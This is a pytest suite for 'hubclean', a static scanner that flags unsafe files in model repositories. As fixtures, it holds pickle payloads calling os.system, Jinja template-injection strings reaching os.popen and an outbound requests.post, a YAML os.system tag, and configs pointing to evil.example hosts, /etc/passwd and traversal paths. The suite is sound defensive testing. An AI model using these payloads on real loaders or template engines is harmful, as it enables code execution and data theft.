"""Each static check on files of our own making: what it must see, what it must leave alone, and that it never raises."""

from __future__ import annotations

import dataclasses
import io
import json
import os
import pickle
import subprocess
import sys
import tarfile
import typing
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hubclean.formats import sniff
from hubclean.records import FileVerdict, Finding
from hubclean.registry import Doc, methods, options
from hubclean.repos import LocalRepo, Repo
from hubclean.scanners import MOST_PER_FILE

SCANNERS = sorted(methods("scanners"))
POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 12345\n"
TENSOR = {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}


def safetensors(header: Any = TENSOR, data: bytes = bytes(4)) -> bytes:
    text = json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + data


def zipped(**members: bytes) -> bytes:
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/"), content)
    return body.getvalue()


def tarred() -> bytes:
    body = io.BytesIO()
    with tarfile.open(fileobj=body, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("pickle"))
    return body.getvalue()


def judge(name: str, folder: Path, files: dict[str, bytes]) -> tuple[list[Finding], dict[str, FileVerdict]]:
    for path, content in files.items():
        place = folder / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(content)
    repo: Repo = LocalRepo(folder)
    rows = list(methods("scanners")[name]().scan(repo, repo.files()))
    return (
        [row for row in rows if isinstance(row, Finding)],
        {row.path: row for row in rows if isinstance(row, FileVerdict)},
    )


def config(folder: Path, value: Any, name: str = "config.json") -> list[tuple[str, str]]:
    text = value if isinstance(value, bytes) else json.dumps(value).encode()
    findings, _ = judge("config-code", folder, {name: text})
    return [(finding.rule, finding.severity) for finding in findings]


# What all scanners must be


@pytest.mark.parametrize("name", SCANNERS)
def test_a_scanner_is_a_documented_frozen_dataclass_with_its_source(name: str) -> None:
    scanner: Any = methods("scanners")[name]
    assert dataclasses.is_dataclass(scanner)
    assert scanner.__dataclass_params__.frozen  # type: ignore[attr-defined]
    assert scanner.__doc__ and not scanner.__doc__.startswith(scanner.__name__ + "(")
    assert len(scanner.paper) > 10
    for field in dataclasses.fields(scanner):
        hint = typing.get_type_hints(scanner, include_extras=True)[field.name]
        assert any(isinstance(extra, Doc) and extra.text for extra in typing.get_args(hint)[1:])
        assert field.default is not dataclasses.MISSING
    assert [row.default for row in options(scanner)] == [getattr(scanner(), row.name) for row in options(scanner)]


NASTY = [
    "config.json",
    "a.safetensors",
    "m.safetensors.index.json",
    "x.py",
    "t.jinja",
    "m.bin",
    "a.npy",
    "b",
    "c.yaml",
    "r.md",
]


@pytest.mark.parametrize("name", SCANNERS)
@settings(max_examples=40, deadline=None)
@given(body=st.one_of(st.binary(max_size=200), st.text(max_size=60).map(str.encode), st.sampled_from([
    b"[" * 100_000, b'{"chat_template":' + b"{" * 5000, b"\x80\x04", b"\x93NUMPY\x01\x00\xff", b"PK\x03\x04", b"(" * 300, POINTER,
    b'{"chat_template": "' + b"{{ (" * 3000 + b'"}', b'{"auto_map": ' + b"9" * 5000 + b"}", b"-" * 100_000 + b"1",
])))  # fmt: skip
def test_a_scanner_never_raises(name: str, body: bytes, tmp_path_factory: pytest.TempPathFactory) -> None:
    findings, verdicts = judge(name, tmp_path_factory.mktemp("nasty"), dict.fromkeys(NASTY, body))
    assert {row.path for row in findings} | set(verdicts) <= set(NASTY)


@pytest.mark.parametrize("name", SCANNERS)
def test_a_file_that_cannot_be_read_is_not_checked_and_never_skipped(name: str, tmp_path: Path) -> None:
    class Broken(LocalRepo):
        def read_range(self, path: str, start: int, stop: int) -> bytes:
            raise RuntimeError("disk on fire")

    files = ["config.json", "a.safetensors", "x.py", "t.jinja", "m.bin", "m.safetensors.index.json"]
    for path in files:
        (tmp_path / path).write_bytes(b"{}")
    repo = Broken(tmp_path)
    rows = list(methods("scanners")[name]().scan(repo, repo.files()))
    silent = {row.path for row in rows if isinstance(row, Finding) and row.rule == "HC-INC-001"}
    assert silent == {row.path for row in rows if isinstance(row, FileVerdict) and row.state == "unchecked"} != set()
    assert not any(isinstance(row, FileVerdict) and row.state == "ok" for row in rows)


def test_a_noisy_file_cannot_drown_the_report(tmp_path: Path) -> None:
    findings, verdicts = judge(
        "config-code", tmp_path, {"config.json": json.dumps([{"auto_map": "x.Y"}] * 5000).encode()}
    )
    assert len(findings) == MOST_PER_FILE + 1
    assert verdicts["config.json"].state == "unchecked"


def test_scanners_import_no_heavy_library(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_bytes(safetensors())
    (tmp_path / "config.json").write_text('{"chat_template": "{{ a }}"}')
    code = (
        "import sys; from hubclean.scanning import scan; from hubclean.terminal import render_scan;"
        "report = scan(sys.argv[1]); render_scan(report); assert report.exit_code == 0, report;"
        "print({'numpy', 'torch', 'timm', 'transformers'} & set(sys.modules))"
    )
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).parents[1]))
    assert subprocess.check_output([sys.executable, "-c", code, str(tmp_path)], env=env, text=True).strip() == "set()"


# formats


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (b"", "empty"),
        (POINTER, "lfs-pointer"),
        (safetensors(), "safetensors"),
        (pickle.dumps({"a": [1]}, 0), "pickle"),
        (pickle.dumps({"a": [1]}, 1), "pickle"),
        (pickle.dumps({"a": [1]}, 2), "pickle"),
        (pickle.dumps({"a": [1]}, 5), "pickle"),
        (b"cos\nsystem\n(S'echo'\ntR.", "pickle"),
        (zipped(a=b"b"), "zip"),
        (tarred(), "tar"),
        (b'{"a": 1}', "json"),
        (b"# A model\n\nIt is (very) good.\n", "text"),
        (b"do. not load this\n", "text"),
        ("é" * 3000, "text"),
        (b"\x7fELF\x02", "executable"),
        (b"\x89PNG\r\n\x1a\n", "image"),
        (b"\x00\x01\x02", "unknown"),
    ],
)
def test_content_tells_the_format(body: bytes | str, said: str) -> None:
    data = body.encode() if isinstance(body, str) else body
    assert sniff(data[:4095], len(data)) == said


# listing


@pytest.mark.parametrize(
    ("path", "body", "rule"),
    [
        ("model.safetensors", POINTER, "HC-REP-001"),
        ("pytorch_model.bin", POINTER, "HC-REP-001"),
        ("model.safetensors", pickle.dumps({}), "HC-FMT-001"),
        ("model.pt", b"7z\xbc\xaf\x27\x1c" + bytes(30), "HC-FMT-001"),
        ("README.md", pickle.dumps({}), "HC-FMT-001"),
        ("cat.png", zipped(a=b"b"), "HC-FMT-001"),
        ("model.bin", safetensors(), "HC-FMT-001"),
        ("config.json", b"\x7fELF" + bytes(30), "HC-FMT-001"),
        ("model.onnx", b"\x08\x01\x00", "HC-FMT-002"),
        ("weights.zip", zipped(a=b"b"), "HC-FMT-002"),
        ("model.h5", b"\x89HDF\r\n\x1a\n", "HC-FMT-002"),
        ("flax_model.msgpack", b"\x81\x00\x01", "HC-FMT-002"),
        ("tool", b"\x7fELF" + bytes(30), "HC-INC-001"),
        ("a\nb.txt", b"text", "HC-REP-004"),
        ("exe\u202etxt.md", b"text", "HC-REP-004"),
    ],
)
def test_listing_sees(tmp_path: Path, path: str, body: bytes, rule: str) -> None:
    findings, verdicts = judge("listing", tmp_path, {path: body})
    assert rule in [finding.rule for finding in findings]
    if rule in ("HC-FMT-002", "HC-INC-001"):
        assert verdicts[path].state == "unchecked"


@pytest.mark.parametrize("path", ["../x", "/etc/x", "a/../../x", "C:\\x", "\\\\host\\x", "~/x"])
def test_listing_sees_names_that_leave_the_folder(path: str) -> None:
    class Listed(LocalRepo):
        def read_range(self, path: str, start: int, stop: int) -> bytes:
            return b"text"[start:stop]

    from hubclean.repos import RepoEntry

    rows = list(methods("scanners")["listing"]().scan(Listed(Path(__file__)), (RepoEntry(path, 4),)))
    assert [row.severity for row in rows if isinstance(row, Finding) and row.rule == "HC-REP-004"] == ["high"]


def test_listing_sees_names_that_differ_in_case_only(tmp_path: Path) -> None:
    findings, _ = judge("listing", tmp_path, {"a.txt": b"x", "A.txt": b"y", "b.txt": b"z"})
    if not (tmp_path / "a.txt").samefile(tmp_path / "A.txt"):
        assert sorted(finding.path for finding in findings if finding.rule == "HC-REP-004") == ["A.txt", "a.txt"]


def test_listing_leaves_honest_files_alone(tmp_path: Path) -> None:
    files = {
        "README.md": b"# do. (a) model", "LICENSE": b"Apache", ".gitattributes": b"*.bin filter=lfs", "cat.png": b"\x89PNG\r\n\x1a\n",
        "model.safetensors": safetensors(), "config.json": b"{}", "pytorch_model.bin": zipped(archive__data=b"x"),
        "old.pt": tarred(), "x.pkl": b"\x1f\x8b\x08", "deep/er/a.txt": b"", "m.py": b"import os\n",
    }  # fmt: skip
    findings, verdicts = judge("listing", tmp_path, files)
    assert findings == []
    states = {path: verdict.state for path, verdict in verdicts.items()}
    assert states == dict.fromkeys(["README.md", "LICENSE", ".gitattributes", "cat.png", "deep/er/a.txt"], "ok")


# safetensors-header


def test_safetensors_header_sees_what_the_parser_rejects_and_quotes_it(tmp_path: Path) -> None:
    broken = safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 4]}})
    findings, verdicts = judge("safetensors-header", tmp_path, {"model.safetensors": broken, "disguised.bin": broken})
    assert [(finding.rule, finding.severity, finding.path) for finding in findings] == [
        ("HC-ST-001", "high", "disguised.bin"),
        ("HC-ST-001", "high", "model.safetensors"),
    ]
    assert "invalid shape" in findings[0].what
    assert verdicts == {}


def test_safetensors_header_sees_ambiguous_and_outsized_headers(tmp_path: Path) -> None:
    odd = {"a": TENSOR["a"] | {"more": 1}}
    many = {f"{i}": {"dtype": "U8", "shape": [1], "data_offsets": [i, i + 1]} for i in range(60)}
    scanner = dataclasses.replace(methods("scanners")["safetensors-header"](), most_tensors=50)
    (tmp_path / "odd.safetensors").write_bytes(safetensors(odd))
    (tmp_path / "many.safetensors").write_bytes(safetensors(many, bytes(60)))
    (tmp_path / "long.safetensors").write_bytes((9 << 20).to_bytes(8, "little") + b"{")
    os.truncate(tmp_path / "long.safetensors", 20 << 20)
    repo = LocalRepo(tmp_path)
    rows = list(scanner.scan(repo, repo.files()))
    found = {row.path: row.rule for row in rows if isinstance(row, Finding) and row.rule != "HC-INC-001"}
    assert found == {
        "odd.safetensors": "HC-ST-002",
        "many.safetensors": "HC-ST-003",
        "long.safetensors": "HC-ST-003",
    }
    assert {row.path: row.state for row in rows if isinstance(row, FileVerdict)}["long.safetensors"] == "unchecked"


def shards(**weight_map: str) -> dict[str, bytes]:
    return {
        "model-1.safetensors": safetensors(),
        "model-2.safetensors": safetensors({"b": TENSOR["a"]}),
        "model.safetensors.index.json": json.dumps({"weight_map": weight_map}).encode(),
    }


def test_an_index_that_agrees_with_its_shards_is_ok(tmp_path: Path) -> None:
    files = {f"unet/{path}": body for path, body in shards(a="model-1.safetensors", b="model-2.safetensors").items()}
    findings, verdicts = judge("safetensors-header", tmp_path, files)
    assert findings == []
    assert {verdict.state for verdict in verdicts.values()} == {"ok"} and len(verdicts) == 3


@pytest.mark.parametrize(
    "weight_map",
    [
        {"a": "model-1.safetensors", "b": "model-3.safetensors"},
        {"a": "model-1.safetensors", "b": "../model-2.safetensors"},
        {"a": "model-2.safetensors", "b": "model-1.safetensors"},
        {"a": "model-1.safetensors", "b": "model-2.safetensors", "c": "model-2.safetensors"},
    ],
)
def test_an_index_that_disagrees_is_a_finding(tmp_path: Path, weight_map: dict[str, str]) -> None:
    findings, _ = judge("safetensors-header", tmp_path, shards(**weight_map))
    assert {(finding.rule, finding.path) for finding in findings} == {("HC-ST-004", "model.safetensors.index.json")}


# config-code


@pytest.mark.parametrize(
    ("value", "rule", "severity"),
    [
        ({"auto_map": {"AutoModel": "modeling.Net"}}, "HC-CFG-001", "high"),
        ({"text_config": {"deep": [{"auto_map": {"AutoModel": "m.N"}}]}}, "HC-CFG-001", "high"),
        ({"custom_pipelines": {"p": {"impl": "p.P"}}}, "HC-CFG-001", "high"),
        ({"trust_remote_code": True}, "HC-CFG-001", "high"),
        ({"_target_": "os.system"}, "HC-CFG-001", "high"),
        ({"image_processor_type": "org/repo--proc.Proc"}, "HC-CFG-001", "high"),
        ({"auto_mapping": {"parent_library": "os"}}, "HC-CFG-001", "high"),
        ({"pretrained_cfg": {"custom_load": "hf"}}, "HC-CFG-001", "high"),
        ({"_attn_implementation": "evil/kernel"}, "HC-CFG-002", "critical"),
        ({"_attn_implementation_internal": "evil/kernel@main"}, "HC-CFG-002", "critical"),
        ({"attn_implementation": {"vision_config": "evil/kernel"}}, "HC-CFG-002", "critical"),
        ({"vision_config": {"_attn_implementation_internal": "evil/kernel"}}, "HC-CFG-002", "critical"),
        ({"keypoint_detector_config": {"trust_remote_code": True}}, "HC-CFG-002", "critical"),
        ({"pretrained_cfg": {"file": "/etc/passwd"}}, "HC-CFG-003", "high"),
        ({"pretrained_cfg": {"file": "a/../../x.bin"}}, "HC-CFG-003", "high"),
        ({"pretrained_cfg": {"url": "https://evil.example/x.pth"}}, "HC-CFG-003", "high"),
        (
            {"pretrained_cfg": {"url": "https://github.com.evil.example/rwightman/pytorch-image-models/x"}},
            "HC-CFG-003",
            "high",
        ),
        ({"pretrained_cfg": {"hf_hub_id": "evil/model"}}, "HC-CFG-003", "high"),
        ({"hf_hub_id": "evil/model"}, "HC-CFG-003", "high"),
        ({"backbone": "evil/backbone"}, "HC-CFG-003", "high"),
        ({"base_model_name_or_path": "../elsewhere"}, "HC-CFG-003", "high"),
        ({"base_model_name_or_path": "google/vit-base-patch16-224"}, "HC-CFG-003", "medium"),
        ({"a": float("nan")}, "HC-CFG-005", "medium"),
        (b'{"a": 1e999}', "HC-CFG-005", "medium"),
        (b'{"a": 1, "a": 2}', "HC-CFG-005", "medium"),
        (b'{"b": {"a": 1, "a": 2}}', "HC-CFG-005", "medium"),
        (b"{", "HC-CFG-005", "medium"),
        (b"\xff\xfe{\x00}\x00", "HC-CFG-005", "medium"),
        (b"[" * 100_000, "HC-CFG-005", "medium"),
    ],
)
def test_config_code_sees(tmp_path: Path, value: Any, rule: str, severity: str) -> None:
    assert (rule, severity) in config(tmp_path, value)


@pytest.mark.parametrize(
    "name", ["preprocessor_config.json", "generation_config.json", "adapter_config.json", "x/processor.json"]
)
def test_config_code_sees_every_json_file(tmp_path: Path, name: str) -> None:
    assert config(tmp_path, {"auto_map": {"AutoImageProcessor": "p.P"}}, name) == [("HC-CFG-001", "high")]


def test_config_code_says_what_is_too_deep_or_too_long_is_not_checked(tmp_path: Path) -> None:
    deep: Any = {"auto_map": {"AutoModel": "m.N"}}
    for _ in range(70):
        deep = {"a": deep}
    (tmp_path / "long.json").write_bytes(b" " * (8 << 20) + b"{}")
    findings, verdicts = judge("config-code", tmp_path, {"config.json": json.dumps(deep).encode()})
    assert {verdict.state for verdict in verdicts.values()} == {"unchecked"} and len(verdicts) == 2
    assert {finding.rule for finding in findings} == {"HC-CFG-005", "HC-INC-001"}


def test_config_code_sees_a_pipeline_from_the_repos_own_file(tmp_path: Path) -> None:
    index = {"_class_name": ["pipeline", "Evil"], "unet": ["diffusers", "UNet2DModel"], "vae": [None, None]}
    assert config(tmp_path, index, "model_index.json") == [("HC-CFG-001", "high")]


@pytest.mark.parametrize("text", [b"a: !!python/object/apply:os.system [id]", b"model:\n  _target_: os.system"])
def test_config_code_sees_yaml_that_calls(tmp_path: Path, text: bytes) -> None:
    assert config(tmp_path, text, "params.yaml") == [("HC-CFG-001", "high")]


CLEAN_CONFIG = {
    "_name_or_path": "google/vit-base-patch16-224-in21k", "architectures": ["ViTForImageClassification"], "auto_map": None,
    "trust_remote_code": False, "_attn_implementation": "sdpa", "_attn_implementation_autoset": True, "kernel_size": [3, 3],
    "id2label": {"0": "url", "1": "n01440764 tench/fish", "2": "../x"}, "label2id": {"url": 0, "auto_map": 1},
    "pretrained_cfg": {"custom_load": False, "url": "", "file": None, "hf_hub_id": "timm/resnet18.a1_in1k", "source": "hf-hub",
                       "origin_url": "https://github.com/facebookresearch/deit"},
    "backbone": "resnet50", "use_pretrained_backbone": False, "layer_norm_eps": 1e-12,
}  # fmt: skip


def test_config_code_leaves_honest_configs_alone(tmp_path: Path) -> None:
    files = {
        "config.json": json.dumps(CLEAN_CONFIG).encode(),
        "vocab.json": b'{"auto_map": 1, "url": 2, "trust_remote_code": 3}',
        "results.json": b'{"url": "https://wandb.ai/x", "file": "images/cat.png"}',
        "params.yaml": b"lr: 0.1\nname: python\n",
    }
    findings, verdicts = judge("config-code", tmp_path, files)
    assert findings == []
    assert {verdict.state for verdict in verdicts.values()} == {"ok"} and len(verdicts) == 4


def test_config_code_notes_old_timm_fields_below_the_gate(tmp_path: Path) -> None:
    release = "https://github.com/rwightman/pytorch-image-models/releases/download/v0.1-rsb-weights/resnet50_a1_0-14fe96d1.pth"
    assert config(tmp_path, {"url": release, "custom_load": True}) == [("HC-CFG-003", "low"), ("HC-CFG-001", "low")]


trees = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | st.sampled_from(["a/b", "../a", "x--y.Z", "http://a", "é\u202e"]),
    lambda inner: st.lists(inner, max_size=3)
    | st.dictionaries(st.sampled_from(["auto_map", "url", "_target_", "trust_remote_code", "kernel", "file", "a", ""]), inner, max_size=4),
    max_leaves=15,
)  # fmt: skip


@settings(max_examples=100, deadline=None)
@given(trees, st.booleans())
def test_config_code_sees_a_planted_field_in_any_tree(tree: Any, listed: bool) -> None:
    from hubclean.scanners.config_code import walk

    planted: Any = {"a": [tree, {"b": {"_attn_implementation": ["x/y"] if listed else "x/y"}}]}
    assert any("_attn_implementation" in path and value == "x/y" for path, value in walk(planted))
    assert all(isinstance(part, str) for path, _ in walk(planted) for part in path)


@settings(max_examples=60, deadline=None)
@given(tree=trees)
def test_config_code_says_ok_or_why_not_of_any_tree(tree: Any, tmp_path_factory: pytest.TempPathFactory) -> None:
    findings, verdicts = judge(
        "config-code", tmp_path_factory.mktemp("tree"), {"config.json": json.dumps(tree).encode()}
    )
    assert not any("the check failed" in verdict.reason for verdict in verdicts.values())
    assert {finding.rule for finding in findings} <= {"HC-CFG-001", "HC-CFG-002", "HC-CFG-003", "HC-CFG-005"}


# chat-templates

HONEST = (
    "{%- for message in messages %}{% if loop.first and message['role'].strip() == 'user' %}{{ raise_exception('no') }}"
    "{% endif %}{% generation %}{{ message.content | trim | tojson }}{% endgeneration %}{% break %}{% endfor %}"
    "{% macro show(x) %}{{ x.items() | list }}{% endmacro %}{{ show(tools) }}{% set ns = namespace(a=1) %}"
)


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ x['__globals__'] }}",
        "{{ x | attr('a') }}",
        "{{ x | map(attribute='__class__') }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ os.popen('id') }}",
        "{{ self._TemplateReference__context }}",
        "{% include 'x' %}",
        "{{ x[0](1) }}",
        "{{ requests.post('http://x', y) }}",
        "{{ lipsum() }}",
        "{% if %}",
        "{{ " + "(" * 2000,
        "{{ 1 }}" * 60_000,
    ],
)
def test_chat_templates_sees(tmp_path: Path, template: str) -> None:
    body = json.dumps({"chat_template": [{"name": "default", "template": template}]}).encode()
    findings, _ = judge("chat-templates", tmp_path, {"tokenizer_config.json": body})
    assert {(finding.rule, finding.severity) for finding in findings} == {("HC-CFG-004", "high")}


def test_chat_templates_reads_jinja_files(tmp_path: Path) -> None:
    findings, _ = judge("chat-templates", tmp_path, {"chat_template.jinja": b"{{ x.__class__ }}"})
    assert [finding.rule for finding in findings] == ["HC-CFG-004"]


def test_chat_templates_leaves_honest_templates_alone(tmp_path: Path) -> None:
    body = json.dumps({"chat_template": HONEST, "other": "{{ x.__class__ }}"}).encode()
    findings, verdicts = judge(
        "chat-templates", tmp_path, {"processor_config.json": body, "chat.jinja": HONEST.encode()}
    )
    assert findings == []
    assert verdicts["chat.jinja"].state == "ok"


# pickles


class Evil:
    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, ("hubclean-must-not-run",)


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("pytorch_model.bin", zipped(archive__data=b"x")),
        ("innocent.txt", zipped(**{"archive__data.pkl": pickle.dumps({})})),
        ("model.pth", pickle.dumps({}, 2)),
        ("weights", pickle.dumps({"a": [1]}, 0)),
        ("old.pt", tarred()),
        ("model.joblib", b"\x1f\x8b\x08"),
        ("training_args.bin", pickle.dumps(Evil())),
        ("ascii.pkl", b"cos\nsystem\n(S'id'\ntR."),
    ],
)
def test_pickles_are_named_and_not_checked(
    tmp_path: Path, path: str, body: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    findings, verdicts = judge("pickles", tmp_path / "repo", {path: body})
    assert [(finding.rule, finding.severity) for finding in findings] == [("HC-PKL-009", "medium")]
    assert verdicts[path].state == "unchecked"
    assert "never loads" in verdicts[path].reason
    assert not (tmp_path / "hubclean-must-not-run").exists()


def test_pickles_weigh_less_beside_safetensors(tmp_path: Path) -> None:
    files = {"model.safetensors": safetensors(), "pytorch_model.bin": pickle.dumps({})}
    findings, verdicts = judge("pickles", tmp_path, files)
    assert [(finding.path, finding.severity) for finding in findings] == [("pytorch_model.bin", "low")]
    assert set(verdicts) == {"pytorch_model.bin"}


def npy(descr: str) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + bytes(8)


@pytest.mark.parametrize("descr", ["'|O'", "'O8'", "[('a', '|O')]", "'object'.lower()[:1].upper()"])
def test_object_arrays_are_pickles(tmp_path: Path, descr: str) -> None:
    findings, verdicts = judge("pickles", tmp_path, {"a.npy": npy(descr)})
    assert [finding.rule for finding in findings] == ["HC-NPY-001"]
    assert verdicts["a.npy"].state == "unchecked"


def test_pickles_leaves_other_files_alone(tmp_path: Path) -> None:
    files = {
        "a.npy": npy("'<f4'"),
        "m.safetensors": safetensors(),
        "r.md": b"# hi",
        "x.bin": POINTER,
        "e.pt": b"",
        "a.zip": zipped(a=b"b"),
    }
    assert judge("pickles", tmp_path, files) == ([], {})


# python-files


def test_python_files_are_listed_with_their_imports(tmp_path: Path) -> None:
    source = b"import os, sys\nfrom urllib.request import urlopen\nfrom . import x\n"
    (finding,), verdicts = judge("python-files", tmp_path, {"tool.py": source, "config.json": b'{"a": "tool box"}'})
    assert (finding.rule, finding.severity, finding.path) == ("HC-PY-001", "medium", "tool.py")
    assert "imports: ., os, sys, urllib.request" in finding.what
    assert verdicts == {}


@pytest.mark.parametrize("reference", ["modeling.Net", "org/repo--modeling.Net"])
def test_python_files_that_a_config_names_weigh_more(tmp_path: Path, reference: str) -> None:
    files = {"modeling.py": b"x = 1", "config.json": json.dumps({"auto_map": {"AutoModel": reference}}).encode()}
    (finding,), _ = judge("python-files", tmp_path, files)
    assert (finding.rule, finding.severity) == ("HC-PY-001", "high")


def test_python_that_does_not_parse_is_still_listed(tmp_path: Path) -> None:
    findings, verdicts = judge(
        "python-files", tmp_path, {"a.py": b"def", "b.py": b"-" * 90_000 + b"1", "c.py": bytes(2 << 20)}
    )
    assert [finding.rule for finding in findings] == ["HC-PY-001", "HC-PY-001", "HC-PY-001", "HC-INC-001"]
    assert "does not parse" in findings[0].what
    assert verdicts["c.py"].state == "unchecked"


def test_no_python_no_finding(tmp_path: Path) -> None:
    assert judge("python-files", tmp_path, {"py.txt": b"import os", "config.json": b"{}"}) == ([], {})
